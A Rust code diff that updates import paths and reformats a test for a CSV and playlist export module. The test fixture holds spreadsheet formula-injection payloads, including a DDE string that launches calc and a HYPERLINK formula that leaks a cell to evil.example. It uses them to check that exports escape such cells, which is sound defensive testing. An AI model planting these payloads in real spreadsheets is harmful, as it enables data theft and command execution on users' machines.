@@ -3,8 +3,8 @@
 use csv::{Writer, WriterBuilder};
 use thiserror::Error;
 
-use super::load::Table;
-use super::spreadsheet::guard;
+use crate::pipeline::input::load::Table;
+use crate::pipeline::output::spreadsheet::guard;
 
 #[derive(Debug, Error)]
 pub enum ExportError {
@@ -121,7 +121,7 @@ pub fn playlist_csv(table: &Table, songs: &[PlaylistSong]) -> Result<String, Exp
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::pipeline::load::parse_csv;
+    use crate::pipeline::input::load::parse_csv;
 
     #[test]
     fn round_trip_keeps_rows_and_adds_results() {
@@ -153,7 +153,14 @@ mod tests {
         let src = "song,artist,energy,=cmd|' /C calc'!A0\n\"=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click me\"\")\",@ ME,-6.5,'Til Tuesday\n+1+1,-- x --,0.5,\"'=1\"\n";
         let t = parse_csv(src.as_bytes()).unwrap();
         let names = ["=1+1".to_string(), "@evil".to_string()];
-        let run = RunColumns { rows: &[0, 1], labels: &[0, 1], codes: &[-0.5, 1.0], dim: 1, map: &[-1.0, 2.0, 3.0, -4.0], names: &names };
+        let run = RunColumns {
+            rows: &[0, 1],
+            labels: &[0, 1],
+            codes: &[-0.5, 1.0],
+            dim: 1,
+            map: &[-1.0, 2.0, 3.0, -4.0],
+            names: &names,
+        };
         let out = export_csv(&t, &run).unwrap();
         assert_eq!(
             out,
@@ -168,7 +175,10 @@ mod tests {
         }
         assert_eq!(back.cell(0, 5), "=1+1");
         let playlist = playlist_csv(&t, &[PlaylistSong { table_row: 0, cluster: Some((0, "=1+1".into())) }]).unwrap();
-        assert!(playlist.contains("\"'=HYPERLINK(") && playlist.ends_with(",'@ ME,-6.5,'Til Tuesday,0,'=1+1\n"), "{playlist}");
+        assert!(
+            playlist.contains("\"'=HYPERLINK(") && playlist.ends_with(",'@ ME,-6.5,'Til Tuesday,0,'=1+1\n"),
+            "{playlist}"
+        );
     }
 
     #[test]
